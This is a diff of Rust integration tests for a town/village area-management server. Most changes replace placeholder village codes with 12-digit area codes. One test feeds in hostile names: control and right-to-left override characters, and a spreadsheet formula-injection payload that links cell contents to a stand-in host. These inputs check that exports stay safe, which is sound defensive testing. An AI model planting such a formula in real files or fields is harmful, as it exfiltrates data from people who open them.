@@ -96,7 +96,7 @@ async fn an_area_file_builds_the_tree_and_villages_find_their_town() {
     // Below a county a village must say its town.
     let res = c
         .post(format!("{api}/villages"))
-        .json(&json!({"code": "YP01", "name": "营盘村"}))
+        .json(&json!({"code": "140105002201", "name": "营盘村"}))
         .send()
         .await
         .unwrap();
@@ -108,7 +108,7 @@ async fn an_area_file_builds_the_tree_and_villages_find_their_town() {
     );
     let res = c
         .post(format!("{api}/villages"))
-        .json(&json!({"code": "YP01", "name": "营盘村", "parent": "140105002000"}))
+        .json(&json!({"code": "140105002201", "name": "营盘村", "parent": "140105002000"}))
         .send()
         .await
         .unwrap();
@@ -142,7 +142,7 @@ async fn an_area_file_builds_the_tree_and_villages_find_their_town() {
         ("140105001000", "town", "140105000000"),
         ("140105002000", "town", "140105000000"),
         ("140105001001", "village", "140105002000"),
-        ("YP01", "village", "140105002000"),
+        ("140105002201", "village", "140105002000"),
     ]);
     assert_eq!(areas(&c, &api).await, after);
     let villages: Vec<Value> = c
@@ -166,7 +166,7 @@ async fn an_area_file_builds_the_tree_and_villages_find_their_town() {
             json!({"name": "小店区", "level": "county", "parent": "140105001000"}),
         ),
         (
-            "YP01",
+            "140105002201",
             json!({"name": "营盘村", "level": "town", "parent": "140105000000"}),
         ),
         (
@@ -184,10 +184,13 @@ async fn an_area_file_builds_the_tree_and_villages_find_their_town() {
 async fn a_server_without_areas_puts_its_villages_in_one_town() {
     let (srv, c, api) = started().await;
     assert!(areas(&c, &api).await.is_empty());
-    srv.storage.upsert_village("V1", "东关村").await.unwrap();
+    srv.storage
+        .upsert_village("140105001201", "东关村")
+        .await
+        .unwrap();
     let res = c
         .post(format!("{api}/villages"))
-        .json(&json!({"code": "V2", "name": "西关村"}))
+        .json(&json!({"code": "140105001202", "name": "西关村"}))
         .send()
         .await
         .unwrap();
@@ -196,13 +199,13 @@ async fn a_server_without_areas_puts_its_villages_in_one_town() {
         areas(&c, &api).await,
         owned(&[
             ("TOWN", "town", ""),
-            ("V1", "village", "TOWN"),
-            ("V2", "village", "TOWN")
+            ("140105001201", "village", "TOWN"),
+            ("140105001202", "village", "TOWN")
         ])
     );
     // A village code is an area code: a town of the same code is refused.
     let res = c
-        .put(format!("{api}/areas/V1"))
+        .put(format!("{api}/areas/140105001201"))
         .json(&json!({"name": "东关镇", "level": "town", "parent": "TOWN"}))
         .send()
         .await
@@ -242,9 +245,13 @@ async fn every_change_through_the_town_api_is_in_a_trail_nothing_can_change() {
         assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
     }
     let steps: [(&str, &str, Value); 4] = [
-        ("POST", "villages", json!({"code": "V1", "name": "东关村"})),
-        ("PUT", "villages/V1", json!({"name": "东关社区"})),
-        ("POST", "villages/V1/enrolment-code", json!({})),
+        (
+            "POST",
+            "villages",
+            json!({"code": "140105001201", "name": "东关村"}),
+        ),
+        ("PUT", "villages/140105001201", json!({"name": "东关社区"})),
+        ("POST", "villages/140105001201/enrolment-code", json!({})),
         (
             "PUT",
             "settings",
@@ -267,14 +274,16 @@ async fn every_change_through_the_town_api_is_in_a_trail_nothing_can_change() {
         }
     }
     let res = c
-        .post(format!("{api}/villages/V1/enrolment-code/withdraw"))
+        .post(format!(
+            "{api}/villages/140105001201/enrolment-code/withdraw"
+        ))
         .send()
         .await
         .unwrap();
     assert!(res.status().is_success());
     let res = c
         .put(format!("{api}/baselines"))
-        .json(&json!({"year": 2025, "entries": [{"village": "V1", "month": 1, "count": 12}]}))
+        .json(&json!({"year": 2025, "entries": [{"village": "140105001201", "month": 1, "count": 12}]}))
         .send()
         .await
         .unwrap();
@@ -315,7 +324,7 @@ async fn every_change_through_the_town_api_is_in_a_trail_nothing_can_change() {
         .unwrap();
     assert_eq!(renamed["detail"], "东关村 → 东关社区");
     assert_eq!(renamed["account"], "admin");
-    assert_eq!(renamed["area"], "V1");
+    assert_eq!(renamed["area"], "140105001201");
     assert_eq!(renamed["address"], "127.0.0.1");
 
     // Filters: by kind, by area (and below), by account, by time, by page.
@@ -372,7 +381,7 @@ async fn a_change_whose_audit_row_cannot_be_written_is_not_made() {
     let (srv, c, api) = started().await;
     let res = c
         .post(format!("{api}/villages"))
-        .json(&json!({"code": "V1", "name": "东关村"}))
+        .json(&json!({"code": "140105001201", "name": "东关村"}))
         .send()
         .await
         .unwrap();
@@ -388,9 +397,13 @@ async fn a_change_whose_audit_row_cannot_be_written_is_not_made() {
     )
     .await;
     let changes: [(&str, &str, Value); 4] = [
-        ("PUT", "villages/V1", json!({"name": "东关社区"})),
-        ("POST", "villages", json!({"code": "V2", "name": "西关村"})),
-        ("POST", "villages/V1/enrolment-code", json!({})),
+        ("PUT", "villages/140105001201", json!({"name": "东关社区"})),
+        (
+            "POST",
+            "villages",
+            json!({"code": "140105001202", "name": "西关村"}),
+        ),
+        ("POST", "villages/140105001201/enrolment-code", json!({})),
         (
             "PUT",
             "settings",
@@ -417,7 +430,7 @@ async fn a_change_whose_audit_row_cannot_be_written_is_not_made() {
         .iter()
         .map(|v| (v.code.as_str(), v.name.as_str()))
         .collect();
-    assert_eq!(names, [("V1", "东关村")]);
+    assert_eq!(names, [("140105001201", "东关村")]);
     assert_eq!(srv.storage.setting("stale_days").await.unwrap(), None);
 
     // With the trail writable again, the change is made with its row.
@@ -428,7 +441,7 @@ async fn a_change_whose_audit_row_cannot_be_written_is_not_made() {
     )
     .await;
     let res = c
-        .put(format!("{api}/villages/V1"))
+        .put(format!("{api}/villages/140105001201"))
         .json(&json!({"name": "东关社区"}))
         .send()
         .await
@@ -447,7 +460,7 @@ async fn a_name_holding_a_formula_or_a_control_character_reaches_no_file_as_eith
     for bad in ["桃园\u{1}村", "\u{202e}村园桃", "桃园\n村"] {
         let res = c
             .post(format!("{api}/villages"))
-            .json(&json!({"code": "V9", "name": bad}))
+            .json(&json!({"code": "140105001209", "name": bad}))
             .send()
             .await
             .unwrap();
@@ -464,12 +477,12 @@ async fn a_name_holding_a_formula_or_a_control_character_reaches_no_file_as_eith
         .json()
         .await
         .unwrap();
-    assert!(listed.iter().all(|v| v["code"] != "V9"));
+    assert!(listed.iter().all(|v| v["code"] != "140105001209"));
     // A formula is a name like another; the audit export keeps it text.
     let formula = r#"=HYPERLINK("http://x/"&B2,"点此")"#;
     let res = c
         .post(format!("{api}/villages"))
-        .json(&json!({"code": "V9", "name": formula}))
+        .json(&json!({"code": "140105001209", "name": formula}))
         .send()
         .await
         .unwrap();
